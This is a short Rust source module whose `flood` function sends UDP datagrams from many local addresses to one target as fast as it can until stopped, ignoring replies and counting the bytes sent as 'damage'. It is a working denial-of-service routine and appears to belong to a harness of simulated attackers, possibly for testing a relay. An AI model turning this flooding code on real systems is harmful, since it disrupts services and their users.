//! Attackers over UDP: sockets that send the same datagrams again and again.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};

use crate::attackers::Damage;

/// Sends the lines of `text` as datagrams until `stop` is set, from one port of each
/// address. The answers are not read.
pub(crate) fn flood(
    addresses: impl Iterator<Item = Ipv4Addr>,
    relay: SocketAddr,
    text: &str,
    stop: &AtomicBool,
) -> io::Result<Damage> {
    let mut damage = Damage::default();
    let mut sockets = Vec::new();
    for address in addresses {
        let socket = UdpSocket::bind((address, 0))?;
        socket.set_nonblocking(true)?;
        sockets.push(socket);
    }
    while !stop.load(Ordering::Relaxed) {
        for socket in &sockets {
            for line in text.split_inclusive('\n') {
                // A full buffer loses the datagram.
                let sent = socket.send_to(line.as_bytes(), relay);
                damage.bytes += sent.unwrap_or(0) as u64;
            }
        }
    }
    Ok(damage)
}
